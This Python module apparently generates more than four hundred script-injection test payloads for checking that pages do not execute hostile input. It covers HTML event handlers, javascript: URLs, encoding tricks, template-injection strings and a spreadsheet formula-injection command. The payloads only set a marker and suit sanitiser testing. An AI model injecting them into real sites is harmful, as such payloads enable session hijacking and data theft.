"""Hostile texts for script injection; each sets `window.ran` if a page executes it."""

from typing import Final

_CODE: Final = ("window.ran=1", "window['ran']=1", "self.ran=1", "top.ran=1", "(()=>{window.ran=1})()")

_ELEMENTS: Final = (
    "<script>{code}</script>",
    "<ScRiPt >{code}</sCrIpT>",
    "<script src=data:text/javascript,{code}></script>",
    "<script type=module>{code}</script>",
    "<script\x0b>{code}</script>",
    "<script/x>{code}</script>",
    "<svg onload={code}>",
    "<svg/onload={code}//",
    "<svg><script>{code}</script></svg>",
    "<svg><animate onbegin={code} attributeName=x dur=1s>",
    "<svg><set onbegin={code} attributename=x>",
    "<svg><a xlink:href=javascript:{code}><text y=20>x</text></a></svg>",
    "<img src=x onerror={code}>",
    "<img/src=x/onerror={code}>",
    "<image src=x onerror={code}>",
    "<img src=`x`onerror={code}>",
    "<video><source onerror={code}></video>",
    "<video poster=x onerror={code} src=x></video>",
    "<audio src=x onerror={code}></audio>",
    "<body onload={code}>",
    "<body onpageshow={code}>",
    "<iframe srcdoc='<script>parent.{code}</script>'></iframe>",
    "<iframe src=javascript:parent.{code}></iframe>",
    "<iframe onload={code}></iframe>",
    "<object data=javascript:{code}></object>",
    "<object data='data:text/html,<script>{code}</script>'></object>",
    "<embed src=javascript:{code}>",
    "<input autofocus onfocus={code}>",
    "<select autofocus onfocus={code}></select>",
    "<textarea autofocus onfocus={code}></textarea>",
    "<details open ontoggle={code}>",
    "<marquee onstart={code}>",
    "<a href=javascript:{code}>x</a>",
    "<form action=javascript:{code}><button>x</button></form>",
    "<button formaction=javascript:{code}>x</button>",
    "<math><mtext><table><mglyph><style><img src=x onerror={code}></style></mglyph></table></mtext></math>",
    "<noscript><p title='</noscript><img src=x onerror={code}>'></noscript>",
    "<template><script>{code}</script></template>",
    "<style>@import 'javascript:{code}';</style>",
    "<link rel=stylesheet href=javascript:{code}>",
    "<link rel=import href=data:text/html,<script>{code}</script>>",
    "<meta http-equiv=refresh content=0;url=javascript:{code}>",
    "<base href=javascript:{code}//>",
    "<div style=background:url(javascript:{code})>x</div>",
    "<div hx-on:load={code} hx-trigger=load hx-get=/console>x</div>",
    "<div hx-get=/console/csp-reports hx-trigger='load[{code}]'>x</div>",
    "<div data-hx-on--load={code}>x</div>",
    "<p onmouseover={code} onpointerenter={code}>x</p>",
    "<x onclick={code} tabindex=1 id=x autofocus onfocus={code}>x</x>",
    "<portal src=javascript:{code}></portal>",
)
_ESCAPES: Final = ("{}", '">{}', "'>{}", "</textarea>{}", "</pre></code>{}", "</title>{}", "-->{}", "]]>{}")
_PLAIN: Final = (
    "javascript:{code}", "JaVaScRiPt:{code}", "java\tscript:{code}", "data:text/html,<script>{code}</script>",
    "vbscript:{code}", "{{{{constructor.constructor('{code}')()}}}}", "{{{{ 7*7 }}}}", "{{% import os %}}", "${{{code}}}",
    "#{{{code}}}", "<%= {code} %>", '" onfocus={code} autofocus x="', "' onmouseover={code} x='", "` onerror={code} `",
    "\u2028{code}//", "\u0000<script>{code}</script>", "\ufeff<script>{code}</script>", "\uff1cscript\uff1e{code}\uff1c/script\uff1e",
    "%3Cscript%3E{code}%3C/script%3E", "&lt;script&gt;{code}&lt;/script&gt;", "&#60;script&#62;{code}&#60;/script&#62;",
    "\\u003cscript\\u003e{code}\\u003c/script\\u003e", "\\x3cscript\\x3e{code}\\x3c/script\\x3e", "';{code}//", '";{code}//',
    "</script><script>{code}</script>", "<!--<script>{code}//-->", "<![CDATA[<script>{code}</script>]]>", '{{"__proto__":{{"ran":1}}}}',
    "\u202e<script>{code}</script>", "=cmd|' /C calc'!A0", "<script>{code}", "<<script>{code}//<</script>", "<scr<script>ipt>{code}</script>",
)  # fmt: skip


def _all() -> tuple[str, ...]:
    elements = [
        escape.format(element.format(code=_CODE[n % len(_CODE)]))
        for n, element in enumerate(_ELEMENTS)
        for escape in _ESCAPES
    ]
    plain = [text.format(code=_CODE[n % len(_CODE)]) for n, text in enumerate(_PLAIN)]
    return tuple(dict.fromkeys([*elements, *plain]))


PAYLOADS: Final = _all()
"""More than four hundred."""
